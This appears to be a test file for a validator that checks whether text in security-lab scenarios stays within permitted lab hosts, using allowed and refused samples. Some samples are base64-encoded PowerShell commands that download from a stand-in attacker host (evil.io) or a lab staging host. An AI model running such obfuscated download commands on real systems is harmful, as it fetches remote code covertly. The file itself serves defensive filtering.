import test from "ava";
import { addressProblem, nameProblem, problemsIn } from "../../scenarios/safety.ts";

const encoded = (script: string): string => Buffer.from(script, "utf16le").toString("base64");

for (const text of [
  "http://files.lab.example/a.zip?b=1",
  "::ffff:203.0.113.9;",
  "2001:db8:bad:0:0:0:0:66",
  "iabg.de",
  String.raw`C:\Windows\System32\cmd.exe at 12:34:56, version 10.0.26100.1`,
  "/home/student/setup.sh and notes.md",
  `powershell -EncodedCommand ${encoded("iwr http://stage2.lab.example/a")}`,
  "http://localhost:8080/ http://192.168.1.1/ http://[2001:db8::1]/",
]) {
  test(`this may be in a scenario: ${text}`, (t) => {
    t.deepEqual(problemsIn(text), []);
  });
}

for (const [text, named] of [
  ["http://evil.com/x", "evil.com"],
  ["http://user@evil.com:8080/x", "evil.com"],
  ["http://134744072/", "134744072"],
  ["http://intranet/", "intranet"],
  ["http://%65vil.com/", "%65vil.com"],
  ["http://[2606:4700::1111]/", "2606:4700::1111"],
  ["connects to 8.8.8.8", "8.8.8.8"],
  ["::ffff:8.8.8.8;", "8.8.8.8"],
  ["to 2606:4700:4700::1111.", "2606:4700:4700::1111"],
  ["203.0.114.9", "203.0.114.9"],
  ["nslookup evil.io", "evil.io"],
  ["www.iabg.de", "www.iabg.de"],
  ["notiabg.de", "notiabg.de"],
  ["evil.example.com.attacker.net", "evil.example.com.attacker.net"],
  ["evil。com", "evil。com"],
  ["xn--e1afmkfd.xn--p1ai", "xn--e1afmkfd.xn--p1ai"],
  [`powershell.exe -enc ${encoded("iwr http://evil.io/a")}`, "evil.io"],
] as const) {
  test(`this leads outside the lab and is refused: ${text}`, (t) => {
    const problems = problemsIn(text);
    t.true(problems.length > 0);
    t.true(
      problems.some((problem) => problem.startsWith(`${named} is `)),
      problems.join("\n"),
    );
  });
}

test("what is neither an address nor a name is refused where one must be", (t) => {
  t.regex(addressProblem("203.0.113")!, /is not an address/);
  t.regex(nameProblem("a b.example")!, /is not the name of a host/);
  t.regex(nameProblem(`${"a".repeat(64)}.example`)!, /is not the name of a host/);
  t.is(nameProblem("IABG.DE."), undefined);
});
